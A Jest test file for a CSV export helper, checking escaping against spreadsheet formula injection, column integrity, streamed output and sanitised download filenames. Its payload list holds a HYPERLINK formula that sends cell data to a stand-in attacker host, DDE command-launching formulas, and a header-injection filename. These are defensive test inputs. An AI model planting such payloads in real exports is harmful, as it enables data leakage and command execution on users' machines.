import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvCell, csvFile, csvLine, csvText } from './csv.js';

/** What begins a formula, a call out of the sheet, or gets round a careless check. Collected from OWASP and from reports on other products. */
const payloads = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n@SUM(A1)',
  '   =1+1',
  '\u00a0=1+1',
  '\uFEFF=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\ttabbed',
  '\rreturned',
];

const text = async (heads: readonly string[], rows: readonly (readonly (string | number | null)[])[]): Promise<string> => {
  let all = '';
  for await (const piece of csvText(heads, rows)) all += piece;
  return all;
};

describe('a cell', () => {
  it.each(payloads)('never begins a formula: %j', (payload) => {
    expect(csvCell(payload)).toBe(`"'${payload.replaceAll('\u0000', '').replaceAll('"', '""')}"`);
  });

  it.each([
    ['Ruth', '"Ruth"'],
    ['Zofia "Zo" Nowak', '"Zofia ""Zo"" Nowak"'],
    ['a,b;c', '"a,b;c"'],
    ['1 - 2', '"1 - 2"'],
    ['', '""'],
  ])('says %j as it is', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('leaves numbers bare, also negative ones, and has nothing to say of none', () => {
    expect(csvLine([12, -3, 4.5, null, NaN, Infinity])).toBe('12,-3,4.5,,,\r\n');
  });

  it('keeps each cell in its column and its row, whatever it holds', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 5 }),
        (rows) => {
          const read: string[][] = parse(rows.map(csvLine).join(''), { relax_column_count: false });
          expect(read).toEqual(
            rows.map((row) =>
              row.map((cell) => (csvCell(cell).startsWith(`"'`) && !cell.startsWith("'") ? `'${cell}` : cell).replaceAll('\u0000', '')),
            ),
          );
        },
      ),
      { seed: 20261122, numRuns: 150 },
    );
  });
});

describe('a file', () => {
  it('begins with the mark by which Excel knows UTF-8, and a line of heads', async () => {
    expect(await text(['Name', 'Minutes'], [['Łucja', 60]])).toBe('\uFEFF"Name","Minutes"\r\n"Łucja",60\r\n');
  });

  it('has a line of heads where there are no rows', async () => {
    expect(await text(['Name'], [])).toBe('\uFEFF"Name"\r\n');
  });

  it('is written in pieces, so that a long one is never held whole', async () => {
    const pieces: string[] = [];
    for await (const piece of csvText(
      ['n'],
      Array.from({ length: 1000 }, (_, n) => [n]),
    ))
      pieces.push(piece);
    expect(pieces.length).toBeGreaterThan(4);
    expect(pieces.join('').split('\r\n')).toHaveLength(1002);
  });

  it('is saved under a plain name', () => {
    const name = (title: string): unknown => csvFile(title, ['a'], []).options.disposition;
    expect(name('Clear writing clinic, 26 November')).toBe('attachment; filename="clear-writing-clinic-26-november.csv"');
    expect(name('"; filename="evil.exe\r\nX: y')).toBe('attachment; filename="filename-evil-exe-x-y.csv"');
    expect(name('日本')).toBe('attachment; filename="trellis.csv"');
  });
});
